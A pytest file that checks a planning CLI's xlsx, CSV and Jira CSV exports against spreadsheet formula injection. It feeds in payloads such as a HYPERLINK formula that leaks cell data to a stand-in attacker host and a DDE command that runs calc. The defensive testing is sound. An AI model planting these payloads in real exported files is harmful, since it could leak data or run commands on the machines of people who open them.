"""Text from a plan never becomes a spreadsheet formula: xlsx, CSV and Jira CSV read back."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from tests.fuzz.helpers import run

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "#N/A",
]
STARTS = ("=", "+", "-", "@", "\t", "\r")
# The plan model strips surrounding blanks from text, so "\t=1+1" arrives as "=1+1".
SHOWN = list(dict.fromkeys(text.strip() for text in PAYLOADS))


def _plan(tmp_path: Path) -> Path:
    activities = "".join(
        f"  - id: custom-{i}\n"
        f"    name: {json.dumps(text)}\n"
        f"    owner: {json.dumps(text)}\n"
        f"    notes: {json.dumps(text)}\n"
        "    process: release-deployment-management\n"
        "    pmbok_group: executing\n"
        "    duration: 2\n"
        for i, text in enumerate(PAYLOADS)
    )
    risks = "".join(
        f"  - id: R{i}\n    title: {json.dumps(text)}\n    category: contract\n"
        "    probability: low\n    impact: low\n"
        for i, text in enumerate(PAYLOADS)
    )
    plan = tmp_path / "pmsm.yaml"
    plan.write_text(
        "project:\n"
        f"  name: {json.dumps(PAYLOADS[0])}\n"
        "  kind: new-service\n"
        "  start: 2026-03-02\n"
        f"  manager: {json.dumps(PAYLOADS[1])}\n"
        f"activities:\n{activities}risks:\n{risks}",
        encoding="utf-8",
    )
    return plan


def test_xlsx_cells_are_text_never_formulas(tmp_path: Path) -> None:
    from openpyxl import load_workbook

    book_path = tmp_path / "plan.xlsx"
    result = run("plan", _plan(tmp_path), "-o", book_path)
    assert result.exit_code == 0, result.stderr
    book = load_workbook(book_path)  # not read-only: data_type of every cell is kept
    found: dict[str, int] = dict.fromkeys(SHOWN, 0)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value in found:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    found[cell.value] += 1
    # Each text is in the Activities sheet as name, owner and notes, at least.
    assert all(count >= 3 for count in found.values()), found


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


@pytest.mark.parametrize("fmt", ["csv", "jira-csv"])
def test_csv_cells_never_start_a_formula(tmp_path: Path, fmt: str) -> None:
    result = run("plan", _plan(tmp_path), "--format", fmt)
    assert result.exit_code == 0, result.stderr
    cells = _csv_cells(result.stdout)
    for cell in cells:
        if cell.startswith(STARTS):
            # Only a number may start with '-' or '+' (a lag, say); text gets the apostrophe.
            float(cell)
    # The documented rule: the text is kept whole, behind one apostrophe.
    for payload in SHOWN:
        if payload.startswith(STARTS):
            assert any(("'" + payload) in cell for cell in cells), payload


@pytest.mark.parametrize("module", ["pmsm_cli.render.csvfile", "pmsm_cli.export.jira_csv"])
def test_neutralise_covers_tab_and_carriage_return(module: str) -> None:
    # Text that reaches a CSV writer unstripped (a tab or CR first) is neutralised too.
    import importlib

    neutralise = importlib.import_module(module).neutralise
    for payload in PAYLOADS:
        expected = "'" + payload if payload.startswith(STARTS) else payload
        assert neutralise(payload) == expected
    assert neutralise("plain text") == "plain text"
